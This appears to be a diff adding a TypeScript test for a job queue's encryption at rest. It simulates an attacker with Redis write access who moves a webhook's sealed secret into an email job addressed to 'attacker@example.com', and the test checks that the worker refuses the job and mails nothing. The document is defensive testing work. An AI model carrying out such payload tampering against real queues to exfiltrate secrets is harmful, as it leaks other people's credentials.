@@ -1,0 +1,132 @@
+import { randomBytes } from 'node:crypto';
+import { parseEnqueueRequest } from '@errand/contracts';
+import {
+  createPayloadCipher,
+  enqueueJob,
+  getJobView,
+  QueueSet,
+} from '@errand/queue-core';
+import { useQueueFixture, waitFor } from '@errand/queue-core/testing';
+import { createSilentLogger, loadConfig } from '@errand/runtime';
+import { HandlerConfig } from '../config';
+import { createHandlers } from '../handlers/create-handlers';
+import {
+  startSmtpTestServer,
+  type SmtpTestServer,
+} from '../handlers/email/smtp-test-server';
+
+const WEBHOOK_SECRET = 'whsec_do-not-mail-me-0123456789';
+
+/**
+ * Encryption at rest against someone who can write to Redis but holds no
+ * key: a sealed value moved from one job into another must not be opened
+ * by the worker, so it is never mailed out.
+ */
+describe('a sealed value moved into another job in Redis', () => {
+  const fixture = useQueueFixture();
+  const cipher = createPayloadCipher(randomBytes(32));
+  let smtp: SmtpTestServer;
+  let sealing: QueueSet;
+
+  beforeEach(async () => {
+    smtp = await startSmtpTestServer();
+    sealing = new QueueSet({
+      redisUrl: fixture.server.url,
+      prefix: fixture.prefix,
+      cipher,
+    });
+  });
+  afterEach(async () => {
+    await sealing.close();
+    await smtp.close();
+  });
+
+  /** The stored payload of a job, as anyone with Redis access reads it. */
+  async function storedPayload(
+    type: 'email.send' | 'webhook.deliver',
+    id: string,
+  ) {
+    const { queues } = fixture;
+    const job = await queues.run(() => queues.queueFor(type).getJob(id));
+    if (!job) throw new Error(`no ${type} job ${id}`);
+    return job;
+  }
+
+  it('is refused by the worker: the job dies and nothing is mailed', async () => {
+    const webhook = await enqueueJob(
+      sealing,
+      parseEnqueueRequest({
+        type: 'webhook.deliver',
+        payload: {
+          url: 'https://example.com/hook',
+          body: {},
+          secret: WEBHOOK_SECRET,
+        },
+      }),
+    );
+    const email = await enqueueJob(
+      sealing,
+      parseEnqueueRequest({
+        type: 'email.send',
+        payload: {
+          to: 'attacker@example.com',
+          subject: 'exfiltrated',
+          text: 'placeholder',
+        },
+      }),
+    );
+    // The attacker's write: the webhook's sealed secret as the email's text.
+    const source = await storedPayload('webhook.deliver', webhook.id);
+    const target = await storedPayload('email.send', email.id);
+    await target.updateData({
+      ...target.data,
+      payload: { ...target.data.payload, text: source.data.payload.secret },
+    });
+
+    const config = loadConfig(HandlerConfig, { SMTP_URL: smtp.url });
+    fixture.startConsumer({
+      types: ['email.send'],
+      concurrency: 1,
+      handlers: createHandlers(createSilentLogger(), config),
+      cipher,
+    });
+    const view = await waitFor(
+      () => getJobView(fixture.queues, email.id),
+      v => v.status === 'succeeded' || v.status === 'dead',
+      10_000,
+    );
+
+    expect(smtp.received).toEqual([]);
+    expect(view.status).toBe('dead');
+    expect(view.lastError?.message).toMatch(
+      /sensitive field \(\/text\) does not open: it does not belong to this job type, job and field/,
+    );
+    expect(JSON.stringify(view)).not.toContain(WEBHOOK_SECRET);
+  });
+
+  it('still opens in the job it was sealed for', async () => {
+    const email = await enqueueJob(
+      sealing,
+      parseEnqueueRequest({
+        type: 'email.send',
+        payload: { to: 'user@example.com', subject: 'Hi', text: 'Hello' },
+      }),
+    );
+    const config = loadConfig(HandlerConfig, { SMTP_URL: smtp.url });
+    fixture.startConsumer({
+      types: ['email.send'],
+      concurrency: 1,
+      handlers: createHandlers(createSilentLogger(), config),
+      cipher,
+    });
+    const view = await waitFor(
+      () => getJobView(fixture.queues, email.id),
+      v => v.status === 'succeeded' || v.status === 'dead',
+      10_000,
+    );
+
+    expect(view.status).toBe('succeeded');
+    expect(smtp.received).toHaveLength(1);
+    expect(smtp.received[0].raw).toContain('Hello');
+  });
+});
